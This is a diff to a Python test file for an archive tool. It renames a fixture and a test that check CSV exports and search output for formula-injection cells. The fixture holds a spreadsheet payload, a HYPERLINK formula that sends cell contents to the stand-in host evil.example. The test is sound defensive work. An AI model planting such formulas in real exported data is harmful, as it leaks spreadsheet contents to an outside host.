@@ -51,7 +51,7 @@ def lines_of(text: str) -> list[dict[str, str]]:
     return [json.loads("{" + line.partition("{")[2]) for line in text.splitlines()]
 
 
-def test_an_index_of_everything_names_every_capture_where_it_lies(
+def test_an_index_of_everything_lists_every_capture_with_its_place(
     story: Story, creditline: Call, tmp_path: Path
 ) -> None:
     folder = story.third.layout.directory
@@ -131,7 +131,7 @@ FORMULA = re.compile(r"[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
 
 
 @pytest.fixture
-def reckoned(creditline: Call, foreign_warc: Callable[..., Any], tmp_path: Path) -> Path:
+def with_formulas(creditline: Call, foreign_warc: Callable[..., Any], tmp_path: Path) -> Path:
     """A collection of one page whose every word is a formula."""
     words = '=HYPERLINK("http://evil.example/?"&A1,"The harbour")'
     page = (
@@ -149,14 +149,17 @@ def reckoned(creditline: Call, foreign_warc: Callable[..., Any], tmp_path: Path)
 
 
 @pytest.mark.slow
-def test_no_exported_table_has_a_cell_with_a_formula(reckoned: Path, creditline: Call, tmp_path: Path) -> None:
-    assert creditline("-C", reckoned, "export", "bag", "--all", "-o", tmp_path / "bag").code == 0
-    premises = Premises(reckoned / "catalogue.db", reckoned / "warcs", name="The Archive")
+def test_no_exported_table_has_a_cell_with_a_formula(with_formulas: Path, creditline: Call, tmp_path: Path) -> None:
+    assert creditline("-C", with_formulas, "export", "bag", "--all", "-o", tmp_path / "bag").code == 0
+    premises = Premises(with_formulas / "catalogue.db", with_formulas / "warcs", name="The Archive")
     with TestClient(room(premises), "http://127.0.0.1:8000") as visitor:
         shown = visitor.get("/search.csv?q=harbour")
     assert shown.status_code == 200
     tables = {path.name: path.read_text("utf-8") for path in (tmp_path / "bag/data/catalogue").glob("*.csv")}
-    tables |= {"search": creditline("-C", reckoned, "search", "harbour", "--format", "csv").out, "room": shown.text}
+    tables |= {
+        "search": creditline("-C", with_formulas, "search", "harbour", "--format", "csv").out,
+        "room": shown.text,
+    }
     for name, table in tables.items():
         rows = list(csv.reader(io.StringIO(table.lstrip("\ufeff"))))
         assert [one for row in rows for one in row if FORMULA.match(one) and not _is_number(one)] == [], name
